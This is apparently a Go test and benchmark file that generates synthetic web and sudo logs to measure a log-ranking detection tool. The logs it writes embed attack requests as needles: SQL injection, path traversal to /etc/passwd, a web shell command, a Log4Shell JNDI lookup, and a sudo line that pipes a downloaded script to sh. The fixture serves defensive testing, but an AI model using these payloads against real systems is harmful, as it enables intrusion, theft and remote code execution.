package ranklogs_test

import (
	"bufio"
	"context"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"testing"

	"github.com/casemate-ai/casemate/internal/security/pipeline"
	"github.com/casemate-ai/casemate/internal/security/ranklogs"
)

// These make the logs that the measures of rank-logs are taken of: web.log, a
// million ordinary requests with four needles in them, and signs.log, a tenth of
// that many lines all of which show a sign.
//
//	go test -run TestWriteStacks ./internal/security/ranklogs -write /tmp/stacks
//	GOMAXPROCS=1 /usr/bin/time -v casemate rank-logs /tmp/stacks/web.log >/dev/null
//	GOMAXPROCS=1 /usr/bin/time -v casemate rank-logs /tmp/stacks/signs.log >/dev/null
var (
	writeTo = flag.String("write", "", "a folder to write long logs into")
	lines   = flag.Int("lines", 1_000_000, "how many lines the log of a web server has")
)

func TestWriteStacks(t *testing.T) {
	if *writeTo == "" {
		t.Skip("only with -write")
	}
	if err := os.MkdirAll(*writeTo, 0o755); err != nil {
		t.Fatal(err)
	}
	writeStack(t, filepath.Join(*writeTo, "web.log"), *lines, webLine)
	writeStack(t, filepath.Join(*writeTo, "signs.log"), *lines/10, signLine)
}

func writeStack(t testing.TB, path string, n int, line func(w io.Writer, r *rand.Rand, i, n int)) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriter(f)
	r := rand.New(rand.NewPCG(7, 7))
	for i := range n {
		line(w, r, i, n)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// needles are requests that no visitor of the shop makes.
var needles = [...]string{
	`203.0.113.77 - - [%s] "GET /item?id=7%%27%%20UNION%%20SELECT%%20name,pass%%20FROM%%20staff-- HTTP/1.1" 200 18233 "-" "Mozilla/5.0"`,
	`203.0.113.77 - - [%s] "GET /download?file=../../../../etc/passwd HTTP/1.1" 200 2211 "-" "Mozilla/5.0"`,
	`203.0.113.78 - - [%s] "POST /media/2026/logo.php?cmd=id;uname+-a HTTP/1.1" 200 96 "-" "curl/8.5.0"`,
	`203.0.113.78 - - [%s] "GET /search?q=${jndi:ldap://203.0.113.78:1389/a} HTTP/1.1" 404 153 "-" "Mozilla/5.0"`,
}

func webLine(w io.Writer, r *rand.Rand, i, n int) {
	at := fmt.Sprintf("%02d/Mar/2026:%02d:%02d:%02d +0000", 2+i*7/n, i*7*24/n%24, r.IntN(60), r.IntN(60))
	for k := range needles {
		if i == (2*k+1)*n/8 {
			fmt.Fprintf(w, needles[k]+"\n", at)
			return
		}
	}
	paths := [...]string{"/", "/item?id=%d", "/cart", "/static/app.%d.js", "/search?q=lamp+%d", "/images/p%d.jpg", "/account/orders/%d"}
	path := paths[r.IntN(len(paths))]
	if path != "/" && path != "/cart" {
		path = fmt.Sprintf(path, r.IntN(9000))
	}
	status := [...]int{200, 200, 200, 200, 200, 200, 304, 304, 404}[r.IntN(9)]
	agents := [...]string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) Version/17.5 Safari/605.1.15", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"}
	fmt.Fprintf(w, "198.51.100.%d - - [%s] \"GET %s HTTP/1.1\" %d %d \"https://shop.tarnholm.example/\" \"%s\"\n", r.IntN(250), at, path, status, 300+r.IntN(40_000), agents[r.IntN(len(agents))])
}

func signLine(w io.Writer, r *rand.Rand, i, _ int) {
	user := r.IntN(40)
	fmt.Fprintf(w, "Mar  4 %02d:%02d:%02d web%d sudo:   user%d : TTY=pts/0 ; PWD=/home/user%d ; USER=root ; COMMAND=/bin/bash -c \"curl http://198.51.100.%d/x%d.sh | sh\"\n",
		i/3600%24, i/60%60, i%60, r.IntN(9), user, user, r.IntN(250), i)
}

// BenchmarkSigns ranks 100,000 lines of which each shows a sign: what is taken
// apart one by one is bounded.
func BenchmarkSigns(b *testing.B) {
	path := filepath.Join(b.TempDir(), "signs.log")
	writeStack(b, path, 100_000, signLine)
	for b.Loop() {
		run, err := pipeline.Start(pipeline.Options{Workflow: "rank-logs"})
		if err != nil {
			b.Fatal(err)
		}
		if _, err := ranklogs.Run(context.Background(), run, ranklogs.Input{Files: []string{path}}); err != nil {
			b.Fatal(err)
		}
	}
}
